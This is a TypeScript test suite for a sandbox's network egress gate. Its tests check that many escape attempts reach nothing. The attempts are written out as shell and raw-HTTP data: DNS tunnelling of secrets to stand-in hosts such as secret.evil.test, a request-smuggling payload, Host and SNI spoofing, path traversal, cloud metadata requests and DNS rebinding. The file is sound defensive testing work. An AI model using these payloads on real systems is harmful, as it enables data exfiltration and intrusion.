/**
 * Every way out that facts and imagination offer, tried by programs inside the sandbox, beside a network that is the whole
 * internet and hostile: what counts is what arrived there.
 */
import type { Egress } from "@blindbox/manifest";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { DRIVERS, isRoot } from "./fixtures-sandbox/availability.ts";
import { removeTemporary } from "./fixtures-sandbox/rootfs.ts";
import { type Internet, startInternet } from "./fixtures-internet/internet.ts";
import { METADATA, RESOLVER, type Seen, SITES } from "./fixtures-internet/names.ts";
import {
  HELLO,
  inAppNetwork,
  inBoxNetwork,
  outOf,
  PYTHON_RAW,
  QUESTIONS,
  virtual,
} from "./fixtures-internet/scripts.ts";
import { type IsolatedBox, startIsolated } from "./fixtures-internet/start-box.ts";

const rootNote = isRoot ? "" : " (skipped: needs root for networks of its own)";

function rules(root: string): Egress[] {
  const verified = { mode: "verified", websocket: false, pins: [], roots: [root] } as const;
  return [
    { ...verified, host: "api.allowed.test", ports: [443], methods: ["GET", "POST"], paths: ["/v1/**", "/size/**"] },
    { ...verified, host: "*.wild.test", ports: [443], methods: "any", paths: "any" },
    { ...verified, host: "private.test", ports: [443], methods: "any", paths: "any" },
    { ...verified, host: "metadata.test", ports: [443], methods: "any", paths: "any" },
    { ...verified, host: "rebind.test", ports: [443], methods: "any", paths: "any" },
    { mode: "http", host: "plain.test", ports: [80, 8080], methods: ["GET"], paths: ["/ok"], trusts: "network" },
    { mode: "tcp", host: "11.0.1.50", ports: [22], trusts: "network" },
  ];
}

/** Each must leave no trace on the internet at all: not a packet, not a question. */
const SILENT: readonly (readonly [string, string])[] = [
  ["an address in the place of a name", `curl -sk -m 4 https://${SITES.forbidden}/; curl -s -m 4 http://1.2.3.4/`],
  ["an allowed name's address in the place of the name", `curl -sk -m 4 https://${SITES.allowed}/v1/x`],
  ["a name that no rule has", "curl -sk -m 4 https://forbidden.test/; curl -sk -m 4 https://allowed.test/"],
  [
    "an allowed name, resolved by the app itself",
    `curl -sk -m 4 --resolve api.allowed.test:443:${SITES.allowed} https://api.allowed.test/v1/x`,
  ],
  ["a forbidden name in the ClientHello at an allowed name's address", virtual("forbidden.test")],
  ["no name in the ClientHello", virtual("", "-noservername")],
  ["another allowed name in the ClientHello", virtual("a.wild.test")],
  [
    "bytes that are no TLS",
    "V=$(addr api.allowed.test); printf 'GET /v1/x HTTP/1.1\\r\\nHost: api.allowed.test\\r\\n\\r\\n' | nc -w 3 $V 443",
  ],
  ["a resolver of its own, over UDP", `nslookup forbidden.test ${RESOLVER}; nslookup api.allowed.test 8.8.8.8`],
  [
    "a resolver of its own, over TCP",
    `curl -s -m 3 telnet://${RESOLVER}:53 </dev/null; curl -s -m 3 telnet://${RESOLVER}:853 </dev/null`,
  ],
  [
    "a tunnel through questions",
    "nslookup -type=txt secret.evil.test; nslookup c2VjcmV0.api.allowed.test; nslookup a.b.wild.test",
  ],
  ["other kinds of question about allowed names", QUESTIONS("api.allowed.test", 16, 255, 65, 28)],
  ["UDP", outOf("udp", SITES.allowed, "443", "53", "123", "4500")],
  [
    "UDP to an allowed name's address",
    "V=$(addr api.allowed.test); python3 -c \"import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);[s.sendto(b'secret',('$V',p)) for p in (443,53,123)]\"",
  ],
  ["ICMP", `ping -c 1 -W 1 ${SITES.allowed}`],
  ["IPv6", "curl -sgk -m 3 'https://[2001:db8::1]/'; curl -sgk -m 3 'https://[::ffff:11.0.1.20]/'"],
  ["a port that no rule has", "curl -sk -m 3 https://api.allowed.test:8443/; curl -s -m 3 http://api.allowed.test/"],
  [
    "a port that only another rule has",
    "curl -s -m 3 http://api.allowed.test:8080/v1/x; curl -sk -m 3 https://plain.test/ok; curl -s -m 3 telnet://api.allowed.test:22 </dev/null",
  ],
  [
    "the cloud's metadata",
    `curl -s -m 3 http://${METADATA}/; curl -s -m 3 http://168.63.129.16/; curl -s -m 3 http://168.63.129.16:32526/`,
  ],
  ["an address that a rule has, on another port", "curl -s -m 3 telnet://11.0.1.50:25 </dev/null"],
  ["another Host than the name", "curl -sk -m 4 -H 'Host: forbidden.test' https://api.allowed.test/v1/x"],
  ["another Host in plain HTTP", "curl -s -m 4 -H 'Host: forbidden.test' http://plain.test/ok"],
  [
    "a method that the rule has not",
    "curl -sk -m 4 -X DELETE https://api.allowed.test/v1/x; curl -sk -m 4 -X POST http://plain.test/ok",
  ],
  [
    "a path that the rule has not",
    "curl -sk -m 4 https://api.allowed.test/v2/x; curl -sk -m 4 --path-as-is https://api.allowed.test/v1/../x; curl -sk -m 4 https://api.allowed.test/v1/%2e%2e/x; curl -s http://plain.test/ok/x",
  ],
  [
    "an absolute target",
    PYTHON_RAW("GET https://forbidden.test/v1/x HTTP/1.1\\r\\nHost: api.allowed.test\\r\\n\\r\\n"),
  ],
  ["CONNECT", PYTHON_RAW("CONNECT forbidden.test:443 HTTP/1.1\\r\\nHost: api.allowed.test\\r\\n\\r\\n")],
  ["two Hosts", PYTHON_RAW("GET /v1/x HTTP/1.1\\r\\nHost: api.allowed.test\\r\\nHost: forbidden.test\\r\\n\\r\\n")],
  ["no Host", PYTHON_RAW("GET /v1/x HTTP/1.1\\r\\n\\r\\n")],
  [
    "two lengths",
    PYTHON_RAW(
      "POST /v1/x HTTP/1.1\\r\\nHost: api.allowed.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /v2/secret HTTP/1.1\\r\\nHost: api.allowed.test\\r\\n\\r\\n",
    ),
  ],
  ["a folded header", PYTHON_RAW("GET /v1/x HTTP/1.1\\r\\nHost: api.allowed.test\\r\\nA: b\\r\\n c\\r\\n\\r\\n")],
  [
    "an upgrade that the rule has not",
    PYTHON_RAW(
      "GET /v1/x HTTP/1.1\\r\\nHost: api.allowed.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n",
    ),
  ],
  ["HTTP/2 without asking", PYTHON_RAW("PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")],
  ["a ClientHello in small pieces that names another host", HELLO("pieces", "forbidden.test")],
  ["two names in the ClientHello", HELLO("whole", "api.allowed.test", "forbidden.test")],
  ["a hidden name in the ClientHello", HELLO("hidden", "api.allowed.test")],
  [
    "the gate itself",
    "for p in 1 22 81 8443 9229 32768; do curl -s -m 2 telnet://10.200.0.1:$p </dev/null; echo $?; done; true",
  ],
];

const VERDICTS = [
  "refused-address",
  "refused-name",
  "refused-server-name",
  "refused-encrypted-hello",
  "refused-hello",
  "refused-query-type",
  "refused-port",
  "refused-request-host",
  "refused-request-method",
  "refused-request-path",
  "refused-request-target",
  "refused-request-form",
  "refused-upgrade",
];

/** curl's words for a connection that was refused, and for one that was reset at once, sooner or later. */
const CUT = /^exit (?:7|35|56)$/;

/** What the application itself sees of each attempt: without it, a script that fails for another reason would look denied. */
const SEEN: Readonly<Record<string, RegExp>> = {
  "an address in the place of a name": CUT,
  "an allowed name's address in the place of the name": CUT,
  "a name that no rule has": /^exit 6$/,
  "an allowed name, resolved by the app itself": CUT,
  "a forbidden name in the ClientHello at an allowed name's address": /errno=104/,
  "no name in the ClientHello": /errno=104/,
  "another allowed name in the ClientHello": /errno=104/,
  "bytes that are no TLS": /^exit 0$/,
  "a resolver of its own, over UDP": /Connection refused[^]*Connection refused/,
  "a resolver of its own, over TCP": /^exit 7$/,
  "a tunnel through questions":
    /secret\.evil\.test: NXDOMAIN[^]*c2VjcmV0\.api\.allowed\.test: NXDOMAIN[^]*a\.b\.wild\.test: NXDOMAIN/,
  "other kinds of question about allowed names": /^(?:\d+ 0 0\n){4}exit 0$/,
  UDP: /^exit 0$/,
  "UDP to an allowed name's address": /^exit 0$/,
  ICMP: /can't create raw socket/,
  IPv6: CUT,
  "a port that no rule has": CUT,
  "a port that only another rule has": CUT,
  "the cloud's metadata": CUT,
  "an address that a rule has, on another port": CUT,
  "another Host than the name": /refused-request-host/,
  "another Host in plain HTTP": /refused-request-host/,
  "a method that the rule has not": /refused-request-method[^]*refused-request-method/,
  "a path that the rule has not":
    /refused-request-path[^]*refused-request-target[^]*refused-request-target[^]*refused-request-path/,
  "an absolute target": /^HTTP\/1\.1 400/,
  CONNECT: /^HTTP\/1\.1 403/,
  "two Hosts": /^HTTP\/1\.1 421/,
  "no Host": /^HTTP\/1\.1 421/,
  "two lengths": /^HTTP\/1\.1 400/,
  "a folded header": /^HTTP\/1\.1 400/,
  "an upgrade that the rule has not": /^HTTP\/1\.1 403/,
  "HTTP/2 without asking": /^HTTP\/1\.1 400/,
  "the gate itself": /^(?:(?:7|56)\n){6}exit 0$/,
  "a ClientHello in small pieces that names another host": /^ConnectionResetError/,
  "two names in the ClientHello": /^ConnectionResetError/,
  "a hidden name in the ClientHello": /^ConnectionResetError/,
};

/** Attempts that need no name, and so can be tried where nothing stands in their way: else their silence would prove little. */
const UNHINDERED: ReadonlySet<string> = new Set([
  "an address in the place of a name",
  "an allowed name's address in the place of the name",
  "an allowed name, resolved by the app itself",
  "a resolver of its own, over UDP",
  "a resolver of its own, over TCP",
  "UDP",
  "the cloud's metadata",
  "an address that a rule has, on another port",
]);

for (const { driver, skip, note } of DRIVERS) {
  describe.skipIf(skip || !isRoot)(`the ${driver} driver${note}${rootNote}`, () => {
    let internet: Internet;
    let box: IsolatedBox;

    beforeAll(async () => {
      internet = await startInternet();
      box = await startIsolated(internet, driver, rules(internet.root));
      await box.order("start");
      expect((await box.sh("echo up")).out).toBe("up\n");
    }, 120_000);
    afterAll(async () => {
      await box?.kill();
      await internet?.close();
      removeTemporary();
    });
    beforeEach(async () => void (await internet.seen()));
    afterEach(async () => internet.resolve("api.allowed.test", [SITES.allowed]));

    const run = (script: string) =>
      box.sh(`addr() { nslookup $1 | awk '/^Address/ {a=$NF} END {print a}'; }\n${script}`);
    const reached = (seen: readonly Seen[]) => seen.map(({ kind, to, what }) => `${kind} ${to} ${what}`);

    test.each(SILENT)("%s: nothing reaches the internet", async (name, script) => {
      const before = internet.packets();
      const { status, out, err } = await run(script);
      expect(`${out}${err}exit ${status}`).toMatch(SEEN[name] ?? /^nothing is known of this attempt$/);
      expect(reached(await internet.seen())).toEqual([]);
      expect(internet.packets() - before).toBe(0);
    });

    test("what reached the box of these attempts stands in its ledger", async () => {
      const { records } = await box.order<{ records: { verdict: string }[] }>("ledger");
      const verdicts = new Set(records.map(({ verdict }) => verdict));
      for (const verdict of VERDICTS) expect(verdicts).toContain(verdict);
    });

    test("a ClientHello in small pieces that names the host is answered", async () => {
      expect((await run(HELLO("pieces", "api.allowed.test"))).out).toBe("handshake\n");
    });

    test.each(SILENT.filter(([name]) => UNHINDERED.has(name)))(
      "%s: without the sandbox the same script does reach it",
      async (_name, script) => {
        inBoxNetwork(internet.networks.box, script);
        expect(await internet.seen()).not.toEqual([]);
      },
    );

    test("its self-test finds every way out denied, with all these rules in force", async () => {
      const results = await box.order<Record<string, string>>("selfTest");
      expect(Object.entries(results).filter(([, result]) => result !== "denied")).toEqual([]);
      expect(reached(await internet.seen())).toEqual([]);
    });

    test("an app with every right over its own network gets no further", async () => {
      const scripts = [
        "ip addr add 203.0.113.99/24 dev eth0",
        "ip route replace default via 10.200.0.1 dev eth0",
        `curl -sk -m 3 https://${SITES.forbidden}/`,
        `curl -s -m 3 http://${SITES.allowed}/`,
        `ip addr add ${SITES.allowed}/32 dev lo`,
        `busybox nslookup x.evil.test ${RESOLVER}`,
        `busybox ping -c 1 -W 1 ${SITES.allowed}`,
        "ip address show",
      ];
      expect(inAppNetwork(box.pid, scripts.join("; "))).toContain("203.0.113.99");
      expect(reached(await internet.seen())).toEqual([]);
    });

    test.each([
      ["curl", "curl -s -m 10 https://api.allowed.test/v1/curl"],
      [
        "Python's urllib",
        "python3 -c \"import urllib.request as u; print(u.urlopen('https://api.allowed.test/v1/urllib').read().decode())\"",
      ],
      [
        "Python's requests",
        "python3 -c \"import requests; print(requests.get('https://api.allowed.test/v1/requests').text)\"",
      ],
      ["Node's fetch", "node -e \"fetch('https://api.allowed.test/v1/fetch').then(r=>r.text()).then(console.log)\""],
    ])("%s reaches an allowed host, whose certificate the box verified", async (_name, script) => {
      const { out, err } = await run(script);
      expect({ out: out.trim(), err }).toMatchObject({ out: "this is allowed, 0 bytes" });
      expect(reached(await internet.seen()).filter((line) => line.startsWith("http"))).toEqual([
        expect.stringMatching(/^http 11\.0\.1\.10:443 allowed GET api\.allowed\.test \/v1\//),
      ]);
    });

    test.each([
      ["itself, with a certificate that it made", SITES.selfSigned],
      ["a site certified by nobody whom the rule trusts", SITES.untrusted],
      ["a site whose certificate expired", SITES.expired],
      ["another site with a valid certificate of its own", SITES.forbidden],
      ["the site of a wildcard", SITES.second],
    ])("a host that leads an allowed name to %s gets not one byte of the app", async (_name, address) => {
      await internet.resolve("api.allowed.test", [address]);
      // Longer than any answer of DNS may be kept.
      await run("sleep 2");
      await internet.seen();
      const { out } = await run(
        "curl -sk -m 10 -o /dev/null -w '%{http_code}' -d secret https://api.allowed.test/v1/x",
      );
      expect(out).toBe("502");
      const seen = await internet.seen();
      expect(seen.filter(({ kind }) => kind === "http" || kind === "bytes")).toEqual([]);
      expect(seen.filter(({ kind }) => kind === "tcp").length).toBeGreaterThan(0);
      expect(JSON.stringify(await box.order("ledger"))).toContain("api.allowed.test");
    });

    test.each([
      ["private addresses", "private.test"],
      ["the cloud's metadata", "metadata.test"],
    ])("a name that leads to %s is not dialled", async (_name, host) => {
      const { out } = await run(`curl -sk -m 10 -o /dev/null -w '%{http_code}' https://${host}/`);
      expect(out).toBe("502");
      expect((await internet.seen()).filter(({ kind }) => kind !== "dns")).toEqual([]);
    });

    test("a name that leads elsewhere the second time is judged anew", async () => {
      await internet.resolve("rebind.test", [SITES.allowed]);
      await run("curl -sk -m 10 https://rebind.test/; sleep 2");
      await internet.seen();
      await internet.resolve("rebind.test", ["10.0.0.1", METADATA]);
      await run("sleep 2; curl -sk -m 10 https://rebind.test/");
      expect((await internet.seen()).filter(({ kind }) => kind !== "dns")).toEqual([]);
    });

    test("one label below a wildcard is reached, and each name has an address of its own", async () => {
      const { out } = await run("curl -s -m 10 https://one.wild.test/; addr one.wild.test; addr two.wild.test");
      const [answer, one, two] = out.trim().split("\n");
      expect(answer).toBe("this is second, 0 bytes");
      expect(one).toMatch(/^198\.1[89]\./);
      expect(two).toMatch(/^198\.1[89]\./);
      expect(one).not.toBe(two);
    });

    test("plain HTTP and plain TCP go where they are written, and nowhere else", async () => {
      const http = await run("curl -s -m 10 http://plain.test/ok");
      expect(http.out).toBe("this is allowed, 0 bytes\n");
      const tcp = await run("(echo hello; sleep 1) | nc -w 3 11.0.1.50 22");
      expect(tcp.out).toBe("hello\n");
      expect(reached(await internet.seen())).toContain("tcp 11.0.1.50:22 connected");
    });

    test("large bodies stream both ways", async () => {
      const up = await run("head -c 30000000 /dev/zero | curl -s -m 60 -T - -X POST https://api.allowed.test/v1/up");
      expect(up.out).toBe("this is allowed, 30000000 bytes\n");
      const down = await run("curl -s -m 60 https://api.allowed.test/size/30000000 | wc -c");
      expect(down.out.trim()).toBe("30000000");
    });

    test("the ledger holds what was allowed and what was refused, and not one word of the app's", async () => {
      const secret = "ZXhmaWx0cmF0ZWQ";
      await run(
        `nslookup ${secret}.evil.test; curl -sk -m 4 https://${secret}.wild.test/${secret}; curl -sk -m 4 https://api.allowed.test/v9/${secret}`,
      );
      const text = JSON.stringify(await box.order("ledger"));
      expect(text).toContain("*.wild.test");
      expect(text).not.toContain(secret);
      expect(text.toLowerCase()).not.toContain(secret.toLowerCase());
    });
  });
}
